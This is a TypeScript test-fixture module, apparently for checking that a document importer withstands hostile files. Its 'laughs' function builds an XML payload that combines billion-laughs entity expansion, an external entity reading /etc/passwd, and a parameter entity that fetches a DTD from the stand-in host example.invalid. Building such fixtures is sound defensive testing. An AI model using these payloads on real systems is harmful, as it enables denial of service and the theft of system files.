/** A file that is made to hurt whoever opens it: its name and its bytes. */
export interface HostileFile {
  readonly what: string
  readonly name: string
  readonly make: () => Uint8Array
}

export const text = (content: string): Uint8Array => new TextEncoder().encode(content)

/** A text with its translation, in one line. */
export const pairs = 'نص من كلمات كثيرة.\tA text of many words.\n'

/** So many of anything is far more than any article has. */
export const many = 40_000

/** A document whose entities grow, or stand in another file. */
export const laughs = (root: string, inside: string): string =>
  `<?xml version="1.0"?><!DOCTYPE ${root} [<!ENTITY a "ha"><!ENTITY b "${'&a;'.repeat(100)}"><!ENTITY c "${'&b;'.repeat(100)}"><!ENTITY d "${'&c;'.repeat(100)}"><!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://example.invalid/x.dtd"> %p;]>${inside}`
